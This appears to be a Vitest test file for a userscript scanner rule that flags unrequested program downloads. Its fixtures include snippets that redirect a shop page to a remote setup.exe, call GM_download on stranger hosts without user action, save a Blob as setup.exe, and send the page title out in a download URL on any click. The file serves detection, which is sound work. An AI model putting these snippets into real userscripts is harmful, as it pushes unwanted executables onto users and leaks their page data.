import { describe, expect, test } from "vitest";
import { findIn, userscript } from "../testing/find-in.ts";
import { programDownload } from "./program-download.ts";

describe("program-download", () => {
	test.each([
		[
			"a program that is opened",
			["medium 5"],
			userscript(["match https://shop.example/*"], `location.href="https://files.stranger.test/setup.exe"`),
		],
	])("finds %s", (_title, expected, code) => {
		expect(findIn(programDownload, code)).toEqual(expected);
	});

	test.each([
		[
			"a program on a click",
			userscript(
				["match https://shop.example/*"],
				`const b=document.createElement("button");document.body.append(b);
b.onclick=()=>{location.href="https://files.stranger.test/setup.exe"}`,
			),
		],
		[
			"a picture",
			userscript(["match https://shop.example/*"], `new Image().src="https://files.stranger.test/setup.png"`),
		],
	])("leaves alone %s", (_title, code) => {
		expect(findIn(programDownload, code)).toEqual([]);
	});

	const on = (body: string) => userscript(["match https://shop.example/*", "grant GM_download"], body);

	test.each([
		["a file of a stranger", 'GM_download("https://files.stranger.test/get/7", "x");'],
		["the same with details", 'GM_download({ url: "https://files.stranger.test/get/7", name: "x" });'],
		[
			"a link that is used",
			'const a = document.createElement("a"); a.href = "https://files.stranger.test/get/7"; a.download = "x"; a.click();',
		],
		[
			"a program out of data",
			'const a = document.createElement("a"); a.href = URL.createObjectURL(new Blob([DATA])); a.download = "setup.exe"; a.click();',
		],
		[
			"a file on any click",
			'document.onclick = () => GM_download({ url: "https://files.stranger.test/w/" + btoa(document.title), name: "x" });',
		],
	])("finds saved without being asked: %s", (_title, body) => {
		expect(findIn(programDownload, on(body))).toEqual(["medium 6"]);
	});

	test.each([
		[
			"a list of its own",
			'const a = document.createElement("a"); a.href = URL.createObjectURL(new Blob(["x"])); a.download = "list.csv"; a.click();',
		],
		["what the page shows", 'GM_download(document.querySelector("video").src, "clip.mp4");'],
		["a file of the site", 'GM_download("/export.csv", "export.csv");'],
		[
			"what its own button is for",
			'const b = document.createElement("button"); b.onclick = () => GM_download("https://files.stranger.test/7", "x");',
		],
	])("leaves alone what is saved: %s", (_title, body) => {
		expect(findIn(programDownload, on(body))).toEqual([]);
	});

	test("the end of a host is not the name of a program", () => {
		const head = ["match https://shop.example/*"];
		expect(
			findIn(programDownload, userscript(head, 'fetch("https://api.stranger.com").then((r) => r.json())')),
		).toEqual([]);
		expect(findIn(programDownload, userscript(head, 'fetch("https://api.stranger.com/run.com")'))).toEqual([
			"medium 5",
		]);
	});
});
